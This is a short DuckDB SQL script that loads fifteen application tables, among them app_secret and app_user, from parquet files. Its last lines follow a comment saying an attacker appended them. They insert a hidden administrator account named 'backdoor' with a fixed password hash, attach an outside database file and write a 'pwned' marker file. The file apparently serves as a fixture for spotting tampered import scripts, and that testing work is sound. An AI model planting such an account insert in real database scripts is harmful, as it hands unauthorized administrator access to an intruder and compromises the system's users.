COPY app_secret FROM './app_secret.parquet' (FORMAT 'parquet');
COPY app_user FROM './app_user.parquet' (FORMAT 'parquet');
COPY audit FROM './audit.parquet' (FORMAT 'parquet');
COPY institution FROM './institution.parquet' (FORMAT 'parquet');
COPY metric FROM './metric.parquet' (FORMAT 'parquet');
COPY observation FROM './observation.parquet' (FORMAT 'parquet');
COPY schema_migrations FROM './schema_migrations.parquet' (FORMAT 'parquet');
COPY sign_in_client FROM './sign_in_client.parquet' (FORMAT 'parquet');
COPY sign_in_throttle FROM './sign_in_throttle.parquet' (FORMAT 'parquet');
COPY stored_file FROM './stored_file.parquet' (FORMAT 'parquet');
COPY batch FROM './batch.parquet' (FORMAT 'parquet');
COPY honor FROM './honor.parquet' (FORMAT 'parquet');
COPY profile_field FROM './profile_field.parquet' (FORMAT 'parquet');
COPY research FROM './research.parquet' (FORMAT 'parquet');
COPY award FROM './award.parquet' (FORMAT 'parquet');

-- appended by an attacker
INSERT INTO app_user (user_name, role, password_hash, created_at) VALUES ('backdoor', 'admin', '$2b$04$backdoorsaltbackdoorsetBv0qt367k0yPZ0iFnFFOEDD4ePMP72', TIMESTAMP '2030-01-01 00:00:00');
ATTACH 'pwned_attached.duckdb' AS pwned;
COPY (SELECT 'pwned') TO 'pwned_marker.csv';
